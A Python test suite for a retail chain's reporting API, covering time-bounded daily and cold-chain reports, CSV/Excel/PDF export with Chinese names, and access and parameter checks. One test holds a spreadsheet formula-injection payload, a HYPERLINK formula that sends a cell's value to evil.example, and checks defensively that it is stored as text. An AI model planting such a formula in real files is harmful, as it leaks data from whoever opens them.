"""Reports of today stop at now; the daily store summary, the chain roll-up and the cold-chain bundle, as JSON,
CSV with a byte order mark, Excel and PDF, with Chinese store and SKU names read back from each file; scope
refusals and bad parameters. On SQLite and PostgreSQL.

The day is 2025-11-10 in Taipei and Shanghai (UTC+08:00); the reports are made at 10:21 local time, during an
excursion of the Taipei freezer that began at 10:00: 21 minutes outside its range, 1,260 s (the issue saw
1,860 s, the last reading held for max_gap_s into the future)."""

from __future__ import annotations

import csv
import io
import shutil
import uuid
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pypdf
import pytest
from sqlalchemy import insert
from sqlalchemy.ext.asyncio import AsyncEngine

from hub.alerting.models import AlertRow, ChainRule
from hub.catalog.models import Shelf, Sku, Slot, StoreProfile
from hub.db.models import StoredEvent
from hub.domain.access import Principal, Role
from hub.domain.excursions import freezer_range
from hub.domain.rules import EnvironmentRangeRule
from hub.footfall.api import router as footfall_router
from hub.inventory.models import LedgerRow, RestockTask, ShelfLevel
from hub.reports import formats
from hub.reports.cold_chain import Limits, Sample, time_outside
from hub.reports.formats import NO_CJK_FONT_NOTE, UTF8_BOM, Document, Table, document_pdf, workbook_bytes
from hub.reports.settings import ReportSettings
from tests.hub.reports.conftest import reports_client
from tests.hub.reports.test_cold_chain import add_store, temperature
from tests.hub.reports.test_reports import alert

NOW = datetime(2025, 11, 10, 2, 21, tzinfo=UTC)  # 10:21 in Taipei and Shanghai
DAY = "2025-11-10"
TAIPEI = "台北信義店"
SHANGHAI = "上海静安店"
MILK = "鮮奶 全脂 1L"
TAIPEI_ONLY = Principal(kind="user", name="ann", role=Role.VIEWER, store_ids=frozenset({"taipei"}))


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


async def add(engine: AsyncEngine, table: Any, *rows: dict[str, Any]) -> None:
    async with engine.begin() as connection:
        await connection.execute(insert(table), list(rows))


def profile(store_id: str, name: str, timezone: str, currency: str, region: str) -> dict[str, Any]:
    return {"store_id": store_id, "name": name, "timezone": timezone, "currency": currency, "opening_hours": {},
            "region": region, "updated_at": NOW}  # fmt: skip


def sku(sku_id: str, name: str, price: str, currency: str) -> dict[str, Any]:
    return {"sku_id": sku_id, "gtin": None, "name": name, "unit_weight_g": None, "pack_size": 1,
            "price": Decimal(price), "currency": currency, "updated_at": NOW}  # fmt: skip


def sale(store: str, sku_id: str, units: int, at: str, price: str) -> dict[str, Any]:
    return {"event_id": str(uuid.uuid4()), "line": 1, "store_id": store, "sku_id": sku_id, "kind": "sale",
            "quantity": -units, "at": utc(at), "unit_price": Decimal(price), "recorded_at": NOW}  # fmt: skip


def restock(store: str, opened: str, closed: str) -> dict[str, Any]:
    return {"task_id": str(uuid.uuid4()), "store_id": store, "shelf_id": "shelf-1", "slot": 1, "sku_id": "milk",
            "status": "closed", "open_key": None, "level_at_open": 1, "min_quantity": 3, "capacity": 10,
            "quantity": 9, "opened_at": utc(opened), "opening_event_id": str(uuid.uuid4()), "closed_at": utc(closed),
            "closing_event_id": str(uuid.uuid4()), "level_at_close": 10, "command_id": None,
            "print_status": "printed", "print_detail": None, "pick_list": {}}  # fmt: skip


@pytest.fixture
async def chain(engine: AsyncEngine) -> None:
    """Two stores in two currencies; Taipei's day so far (UTC times; local is +8 h)."""
    await add(
        engine,
        StoreProfile,
        profile("taipei", TAIPEI, "Asia/Taipei", "TWD", "north"),
        profile("shanghai", SHANGHAI, "Asia/Shanghai", "CNY", "east"),
    )
    await add_store(engine, "taipei")
    await add_store(engine, "shanghai")
    await add(engine, Sku, sku("milk", MILK, "65", "TWD"), sku("tea", "烏龍茶", "30", "TWD"),
              sku("dumpling", "小笼包", "12.5", "CNY"))  # fmt: skip
    await add(
        engine,
        LedgerRow,
        sale("taipei", "tea", 3, "2025-11-09 15:30", "30"),  # 23:30 the day before
        sale("taipei", "milk", 2, "2025-11-10 01:05", "65"),  # 09:05
        sale("taipei", "tea", 1, "2025-11-10 01:40", "30"),  # 09:40
        sale("taipei", "milk", 1, "2025-11-10 02:10", "65"),  # 10:10
        sale("taipei", "milk", 5, "2025-11-10 02:40", "65"),  # 10:40: a device clock ahead of now
        sale("shanghai", "dumpling", 10, "2025-11-10 00:00", "12.5"),  # 08:00
    )
    await add(engine, Shelf, {"store_id": "taipei", "shelf_id": "shelf-1"})
    await add(
        engine,
        Slot,
        {"store_id": "taipei", "shelf_id": "shelf-1", "slot": 1, "sku_id": "milk", "capacity": 10, "min_quantity": 3,
         "camera_id": None, "updated_at": NOW},
        {"store_id": "taipei", "shelf_id": "shelf-1", "slot": 2, "sku_id": "tea", "capacity": 10, "min_quantity": 2,
         "camera_id": None, "updated_at": NOW},
    )  # fmt: skip
    await add(
        engine,
        ShelfLevel,
        {"store_id": "taipei", "shelf_id": "shelf-1", "slot": 1, "sku_id": "milk", "quantity": 1, "at": NOW,
         "updated_at": NOW},
        {"store_id": "taipei", "shelf_id": "shelf-1", "slot": 2, "sku_id": "tea", "quantity": 5, "at": NOW,
         "updated_at": NOW},
    )  # fmt: skip
    await add(
        engine,
        RestockTask,
        restock("taipei", "2025-11-09 10:00", "2025-11-09 11:00"),  # closed the day before
        restock("taipei", "2025-11-10 00:50", "2025-11-10 01:30"),  # 09:30
    )
    await add(
        engine,
        AlertRow,
        alert("taipei", "environment_range", "critical", "2025-11-10 02:05"),  # open
        alert("taipei", "door_open", "warning", "2025-11-10 01:00", resolved_after_s=600),
        alert("taipei", "door_open", "warning", "2025-11-09 12:00"),  # the day before
    )
    freezer = EnvironmentRangeRule(zone="freezer-*", high=-18.0).model_dump(mode="json")
    await add(engine, ChainRule, {"rule_id": "freezer", "definition": freezer, "updated_at": NOW, "updated_by": "t"})
    await add(
        engine,
        StoredEvent,
        temperature("taipei", "2025-11-10 01:50", -20.0),  # 09:50, in range
        temperature("taipei", "2025-11-10 02:00", -15.0),  # 10:00, the excursion begins
        temperature("taipei", "2025-11-10 02:07", -15.0),
        temperature("taipei", "2025-11-10 02:14", -14.0),
        temperature("taipei", "2025-11-10 02:40", -13.0),  # 10:40: a clock ahead; not known yet
    )


@pytest.fixture
async def client(engine: AsyncEngine) -> AsyncIterator[httpx.AsyncClient]:
    async with reports_client(engine, now=lambda: NOW) as http:
        yield http


async def get_json(client: httpx.AsyncClient, path: str, **params: Any) -> dict[str, Any]:
    response = await client.get(path, params=params)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


# --------------------------------------------------------------------------- today stops at now


def test_a_reading_is_not_held_past_the_end_it_is_given() -> None:
    # The case: outside from 10:00, the last reading at 10:21, made at 10:21.
    limits = Limits(ranges=(freezer_range("freezer-1", max_gap_s=600),))
    start = utc("2025-11-10 00:00")
    samples = [Sample(utc("2025-11-10 09:50"), -20.0)] + [
        Sample(utc("2025-11-10 10:00") + timedelta(minutes=m), -15.0) for m in (0, 7, 14, 21)
    ]
    now = utc("2025-11-10 10:21")
    assert time_outside(samples, limits, start=start, end=now) == 1260.0
    # Held for max_gap_s past now, as the day's end allowed: the 1,860 s the issue saw.
    assert time_outside(samples, limits, start=start, end=utc("2025-11-11 00:00")) == 1860.0


@pytest.mark.usefixtures("chain")
async def test_todays_cold_chain_stops_at_now(client: httpx.AsyncClient) -> None:
    report = await get_json(client, f"/api/v1/reports/cold-chain/taipei/{DAY}")
    assert report["until"] == "2025-11-10T10:21:00+08:00"
    assert report["day_end"] == "2025-11-11T00:00:00+08:00"
    [freezer] = report["zones"]
    assert freezer["readings"] == 4  # the reading stamped 10:40 is not counted before 10:40
    assert freezer["time_outside_s"] == 1260.0
    assert "the day is not over: figures stop at 2025-11-10 10:21:00 +08:00" in report["notes"]
    # A past day is whole, and a day to come has nothing yet.
    earlier = await get_json(client, "/api/v1/reports/cold-chain/taipei/2025-11-09")
    assert earlier["until"] == earlier["day_end"]
    later = await get_json(client, "/api/v1/reports/cold-chain/taipei/2025-11-11")
    assert later["zones"] == []
    assert "the day has not begun: nothing is counted" in later["notes"]


@pytest.mark.usefixtures("chain")
async def test_todays_sales_and_averages_stop_at_now(client: httpx.AsyncClient) -> None:
    sales = await get_json(client, "/api/v1/reports/sales", **{"from": DAY, "to": DAY, "store_id": "taipei"})
    assert sum(item["units"] for item in sales["items"]) == 4  # not the 5 units stamped 10:40
    month = await get_json(
        client, "/api/v1/reports/inventory-turnover", **{"from": "2025-11-01", "to": "2025-11-30", "store_id": "taipei"}
    )
    milk = next(item for item in month["items"] if item["sku_id"] == "milk")
    assert milk["units_sold"] == 3
    assert milk["avg_daily_units"] == pytest.approx(3 / 10)  # ten days of November have begun, not thirty


# --------------------------------------------------------------------------- daily summary


@pytest.mark.usefixtures("chain")
async def test_the_daily_summary_of_today(client: httpx.AsyncClient) -> None:
    report = await get_json(client, f"/api/v1/reports/daily-summary/taipei/{DAY}")
    assert (report["store_name"], report["currency"], report["region"]) == (TAIPEI, "TWD", "north")
    assert report["until"] == "2025-11-10T10:21:00+08:00"
    assert (report["units_sold"], report["revenue"]) == (4, "225.00")
    assert report["sales_by_hour"] == [
        {"hour": 9, "units": 3, "revenue": "160.00"},
        {"hour": 10, "units": 1, "revenue": "65.00"},
    ]
    assert report["sales_by_sku"] == [
        {"sku_id": "milk", "name": MILK, "units": 3, "revenue": "195.00"},
        {"sku_id": "tea", "name": "烏龍茶", "units": 1, "revenue": "30.00"},
    ]
    assert report["below_minimum"] == [
        {"shelf_id": "shelf-1", "slot": 1, "sku_id": "milk", "name": MILK, "quantity": 1, "min_quantity": 3}
    ]
    [done] = report["restock_done"]
    assert done["closed_at"] == "2025-11-10T09:30:00+08:00"
    assert report["alerts"] == [
        {"severity": "critical", "raised": 1, "open_now": 1},
        {"severity": "warning", "raised": 1, "open_now": 0},
    ]
    assert (report["alerts_raised"], report["alerts_open"]) == (2, 1)
    [zone] = report["cold_chain"]
    elapsed = 10 * 3600 + 21 * 60
    assert zone["time_outside_s"] == 1260.0
    assert zone["time_in_range_s"] == elapsed - 1260.0
    assert zone["compliance_percent"] == round(100 * (elapsed - 1260) / elapsed, 2)


@pytest.mark.usefixtures("chain")
async def test_the_daily_summary_as_csv_with_bom_excel_and_pdf_keeps_chinese_names(
    client: httpx.AsyncClient,
) -> None:
    path = f"/api/v1/reports/daily-summary/taipei/{DAY}"
    response = await client.get(path, params={"format": "csv", "bom": "true"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(UTF8_BOM.encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["Sales by SKU", "milk", MILK, "3", "195.00", "TWD"] in rows
    plain = await client.get(path, params={"format": "csv"})
    assert not plain.content.startswith(UTF8_BOM.encode())

    response = await client.get(path, params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == f'attachment; filename="daily-summary_taipei_{DAY}.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert "Sales by SKU" in book.sheetnames
    values = [list(row) for row in book["Sales by SKU"].iter_rows(values_only=True)]
    assert ["milk", MILK, 3, 195, "TWD"] in values
    assert book.sheetnames[0] == "Sales by hour"
    assert book["Sales by hour"]["A1"].value == f"Daily summary: {TAIPEI} (taipei)"

    response = await client.get(path, params={"format": "pdf"})
    assert response.status_code == 200, response.text
    text = pdf_text(response.content)
    assert TAIPEI in text
    assert MILK in text
    assert "?????" not in text


# --------------------------------------------------------------------------- chain roll-up


@pytest.mark.usefixtures("chain")
async def test_the_chain_roll_up_totals_each_currency(client: httpx.AsyncClient) -> None:
    report = await get_json(client, f"/api/v1/reports/chain-summary/{DAY}")
    assert [(s["store_id"], s["store_name"], s["units_sold"], s["revenue"]) for s in report["stores"]] == [
        ("shanghai", SHANGHAI, 10, "125.00"),
        ("taipei", TAIPEI, 4, "225.00"),
    ]
    assert report["totals"] == [
        {"currency": "CNY", "stores": 1, "units_sold": 10, "revenue": "125.00"},
        {"currency": "TWD", "stores": 1, "units_sold": 4, "revenue": "225.00"},
    ]
    taipei = report["stores"][1]
    assert (taipei["alerts_critical"], taipei["below_minimum"], taipei["zones_out_of_range"]) == (1, 1, 1)
    east = await get_json(client, f"/api/v1/reports/chain-summary/{DAY}", region="east")
    assert [s["store_id"] for s in east["stores"]] == ["shanghai"]

    response = await client.get(f"/api/v1/reports/chain-summary/{DAY}", params={"format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    stores = [list(row) for row in book["Stores"].iter_rows(values_only=True)]
    assert any(row[:2] == ["taipei", TAIPEI] for row in stores)
    response = await client.get(f"/api/v1/reports/chain-summary/{DAY}", params={"format": "pdf"})
    assert SHANGHAI in pdf_text(response.content)


@pytest.mark.usefixtures("chain")
async def test_a_scoped_reader_rolls_up_only_its_stores(engine: AsyncEngine) -> None:
    async with reports_client(engine, now=lambda: NOW, who=TAIPEI_ONLY) as client:
        report = await get_json(client, f"/api/v1/reports/chain-summary/{DAY}")
        assert [s["store_id"] for s in report["stores"]] == ["taipei"]
        assert [t["currency"] for t in report["totals"]] == ["TWD"]
        east = await get_json(client, f"/api/v1/reports/chain-summary/{DAY}", region="east")
        assert east["stores"] == []
        response = await client.get(f"/api/v1/reports/cold-chain-bundle/{DAY}", params={"store_id": "shanghai"})
        assert response.status_code == 403
        assert response.json()["detail"] == "store 'shanghai' is outside your access"


# --------------------------------------------------------------------------- cold-chain bundle


@pytest.mark.usefixtures("chain")
async def test_the_bundle_holds_a_pdf_per_store_and_a_workbook(client: httpx.AsyncClient) -> None:
    response = await client.get(f"/api/v1/reports/cold-chain-bundle/{DAY}")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert sorted(archive.namelist()) == [
        f"cold-chain_{DAY}.xlsx",
        f"cold-chain_shanghai_{DAY}.pdf",
        f"cold-chain_taipei_{DAY}.pdf",
    ]
    assert TAIPEI in pdf_text(archive.read(f"cold-chain_taipei_{DAY}.pdf"))
    book = openpyxl.load_workbook(io.BytesIO(archive.read(f"cold-chain_{DAY}.xlsx")))
    assert book.sheetnames == ["shanghai", "taipei"]
    taipei = [list(row) for row in book["taipei"].iter_rows(values_only=True)]
    assert taipei[0][0] == TAIPEI
    header = next(row for row in taipei if row[0] == "record")
    zone = dict(zip(header, taipei[taipei.index(header) + 1], strict=True))
    assert (zone["record"], zone["zone"], zone["time_outside_s"]) == ("zone", "freezer-1", 1260)

    named = await client.get(f"/api/v1/reports/cold-chain-bundle/{DAY}", params={"store_id": "taipei"})
    assert zipfile.ZipFile(io.BytesIO(named.content)).namelist() == [
        f"cold-chain_taipei_{DAY}.pdf",
        f"cold-chain_{DAY}.xlsx",
    ]


@pytest.mark.usefixtures("chain")
async def test_the_bundle_refuses_more_stores_than_its_limit_in_words(engine: AsyncEngine) -> None:
    async with reports_client(engine, now=lambda: NOW, reports=ReportSettings(bundle_max_stores=1)) as client:
        response = await client.get(f"/api/v1/reports/cold-chain-bundle/{DAY}")
        assert response.status_code == 422
        [problem] = response.json()["detail"]
        assert problem["msg"] == (
            "the bundle would hold 2 stores; at most 1 per request: name a region or fewer stores"
        )
        named = await client.get(
            f"/api/v1/reports/cold-chain-bundle/{DAY}", params={"store_id": ["taipei", "shanghai"]}
        )
        assert named.status_code == 422
        assert named.json()["detail"][0]["msg"] == "2 stores named; a bundle holds at most 1"
        assert (
            await client.get(f"/api/v1/reports/cold-chain-bundle/{DAY}", params={"region": "east"})
        ).status_code == 200


@pytest.mark.usefixtures("chain")
async def test_forged_and_oversized_parameters_are_refused_in_words(client: httpx.AsyncClient) -> None:
    unknown = await client.get(f"/api/v1/reports/daily-summary/atlantis/{DAY}")
    assert unknown.status_code == 404
    assert unknown.json()["detail"] == "no store 'atlantis': it has no profile and has sent nothing"
    bad_day = await client.get("/api/v1/reports/daily-summary/taipei/2025-02-30")
    assert bad_day.status_code == 422
    assert bad_day.json()["detail"][0]["loc"] == ["path", "day"]
    bad_format = await client.get(f"/api/v1/reports/daily-summary/taipei/{DAY}", params={"format": "docx"})
    assert bad_format.status_code == 422
    assert bad_format.json()["detail"][0]["loc"] == ["query", "format"]
    long_id = await client.get(f"/api/v1/reports/daily-summary/{'x' * 64}/{DAY}")
    assert long_id.status_code == 422
    too_many = await client.get(f"/api/v1/reports/chain-summary/{DAY}", params={"store_id": ["s"] * 1001})
    assert too_many.status_code == 422
    assert too_many.json()["detail"][0]["loc"] == ["query", "store_id"]
    not_a_store = await client.get(f"/api/v1/reports/cold-chain-bundle/{DAY}", params={"store_id": "atlantis"})
    assert not_a_store.status_code == 404
    assert not_a_store.json()["detail"] == "no store 'atlantis'"


# --------------------------------------------------------------------------- the formats themselves


def test_a_pdf_without_a_cjk_font_says_so_and_logs_the_package(caplog: pytest.LogCaptureFixture) -> None:
    document = Document(title=f"Daily summary: {TAIPEI}", tables=[Table(title="t", columns=["a"], rows=[["x"]])])
    text = pdf_text(document_pdf(document, font=None, created=NOW))
    assert "No font with Chinese characters was found" in text
    assert "fonts-noto-cjk or fonts-wqy-microhei" in text
    assert "fonts-noto-cjk or fonts-wqy-microhei" in caplog.text
    assert NO_CJK_FONT_NOTE.startswith("No font")


def test_a_workbook_never_turns_a_name_into_a_formula() -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A2, "Details")'
    content = workbook_bytes([("SKUs", Table(title="SKUs", columns=["name", "units"], rows=[[evil, 3]]), [])])
    sheet = openpyxl.load_workbook(io.BytesIO(content))["SKUs"]
    assert sheet["A2"].value == evil
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 3


def test_the_pdf_font_is_the_configured_one_else_debians_else_none(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    installed = Path("/usr/share/fonts/truetype/wqy/wqy-microhei.ttc")  # fonts-wqy-microhei, on this machine
    assert formats.find_cjk_font(installed) == installed
    missing = tmp_path / "no-such-font.ttf"
    assert formats.find_cjk_font(missing) in formats.KNOWN_CJK_FONTS
    assert f"reports.pdf_font {missing} is not a font file" in caplog.text
    # Neither a known package nor fontconfig: no font, and PDFs say so (above).
    monkeypatch.setattr(formats, "KNOWN_CJK_FONTS", (tmp_path / "gone.ttc",))
    monkeypatch.setattr(shutil, "which", lambda _: None)
    assert formats.find_cjk_font(None) is None


def test_a_cut_font_writes_the_chinese_it_was_cut_for() -> None:
    installed = Path("/usr/share/fonts/truetype/wqy/wqy-microhei.ttc")
    document = Document(title=f"{TAIPEI} {SHANGHAI}", lines=[MILK], tables=[])
    with formats.pdf_font(installed, formats.document_texts(document)) as cut:
        assert cut is not None
        assert cut != installed
        assert cut.stat().st_size < installed.stat().st_size / 20
    assert not cut.exists()  # a file only while the PDF is written
    text = pdf_text(document_pdf(document, font=installed, created=NOW))
    assert TAIPEI in text
    assert MILK in text


# --------------------------------------------------------------------------- the other reports as files


@pytest.mark.usefixtures("chain")
async def test_inventory_alert_history_and_cold_chain_as_excel_pdf_and_csv_for_excel(client: httpx.AsyncClient) -> None:
    period = {"from": "2025-11-01", "to": DAY, "store_id": "taipei"}
    inventory = await client.get("/api/v1/reports/inventory-turnover", params={**period, "format": "xlsx"})
    assert inventory.status_code == 200, inventory.text
    assert inventory.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(inventory.content))["Inventory turnover"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    header = rows.index(next(row for row in rows if row[0] == "store_id"))
    milk = dict(zip(rows[header], next(row for row in rows if row[2] == "milk"), strict=True))
    assert (milk["name"], milk["units_sold"], milk["avg_daily_units"]) == (MILK, 3, 0.3)

    alerts = await client.get("/api/v1/reports/alerts", params={**period, "format": "pdf"})
    assert alerts.status_code == 200, alerts.text
    assert alerts.headers["content-disposition"] == f'attachment; filename="alerts_taipei_2025-11-01_{DAY}.pdf"'
    text = pdf_text(alerts.content)
    assert "Alert statistics" in text
    assert "door_open warning 2" in text  # rule kind, severity, alerts (one the day before)

    log = await client.get("/api/v1/reports/alert-log", params={**period, "format": "xlsx"})
    assert log.status_code == 200, log.text
    logged = [
        list(row) for row in openpyxl.load_workbook(io.BytesIO(log.content))["Alert log"].iter_rows(values_only=True)
    ]
    top = logged.index(next(row for row in logged if row[0] == "store_id"))
    entries = [dict(zip(logged[top], row, strict=True)) for row in logged[top + 1 :] if row[0] == "taipei"]
    assert [e["rule_kind"] for e in entries].count("door_open") == 2  # one alert a row, not one row a kind
    assert all(str(e["opened_at"]).endswith("+08:00") for e in entries)  # on the store's clock (Asia/Taipei)

    sales = await client.get("/api/v1/reports/sales", params={**period, "format": "csv", "bom": "true"})
    assert sales.content.startswith(UTF8_BOM.encode())
    assert MILK in sales.content.decode("utf-8-sig")

    cold = await client.get(f"/api/v1/reports/cold-chain/taipei/{DAY}.xlsx")
    assert cold.status_code == 200, cold.text
    rows = [list(row) for row in openpyxl.load_workbook(io.BytesIO(cold.content))["taipei"].iter_rows(values_only=True)]
    zone = dict(zip(rows[0], rows[1], strict=True))
    assert (zone["record"], zone["zone"], zone["time_outside_s"]) == ("zone", "freezer-1", 1260)
    cold_csv = await client.get(f"/api/v1/reports/cold-chain/taipei/{DAY}.csv", params={"bom": "true"})
    assert cold_csv.content.startswith(UTF8_BOM.encode())
    missing = await client.get(f"/api/v1/reports/cold-chain/atlantis/{DAY}.xlsx")
    assert missing.status_code == 404


async def test_the_footfall_csv_takes_a_byte_order_mark_too(engine: AsyncEngine) -> None:
    async with reports_client(engine, now=lambda: NOW, routers=(footfall_router,)) as client:
        params = {"from": DAY, "to": DAY, "format": "csv"}
        with_bom = await client.get("/api/v1/reports/footfall", params={**params, "bom": "true"})
        assert with_bom.status_code == 200, with_bom.text
        assert with_bom.content.startswith(UTF8_BOM.encode() + b"record,")
        plain = await client.get("/api/v1/reports/footfall", params=params)
        assert plain.content.startswith(b"record,")
